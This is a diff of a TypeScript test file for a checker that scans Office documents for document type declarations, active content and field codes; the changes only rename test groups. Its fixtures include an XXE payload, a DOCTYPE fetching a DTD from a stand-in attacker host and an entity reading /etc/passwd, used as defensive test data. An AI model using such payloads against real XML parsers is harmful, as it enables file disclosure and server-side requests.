@@ -7,7 +7,7 @@ import { checkContent } from "../check-content.ts";
 const check = (filename: string, content: Buffer) =>
   checkContent(filename, content, { mustBeDigital: false });
 
-describe("checkContent: Office files", () => {
+describe("checking Office files", () => {
   const workbookWith = (more: ZipPart) => check("a.xlsx", xlsx([more]));
   const letterWith = (more: ZipPart) => check("a.docx", docx([more]));
 
@@ -80,7 +80,7 @@ describe("checkContent: Office files", () => {
 const padding = `<!--${"x".repeat(200_000)}-->`;
 const declaration = '<?xml version="1.0" encoding="UTF-8"?>';
 
-describe("checkContent: document type declarations in Office files", () => {
+describe("checking Office files for document type declarations", () => {
   const attack = '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><x/>';
   const entity = '<!ENTITY e SYSTEM "file:///etc/passwd">';
   const parts = [
@@ -139,7 +139,7 @@ describe("checkContent: document type declarations in Office files", () => {
   });
 });
 
-describe("checkContent: active content in Office files", () => {
+describe("checking Office files for active content", () => {
   const typesOf = (type: string) => `<Types><Override PartName="/xl/a" ContentType="${type}"/></Types>`;
 
   test.each([
@@ -359,7 +359,7 @@ describe("checkContent: active content in Office files", () => {
   });
 });
 
-describe("checkContent: fields, formulas and links in Office files", () => {
+describe("checking fields, formulas and links in Office files", () => {
   const run = (code: string) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`;
   const fldChar = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
   const field = (...codes: string[]) =>
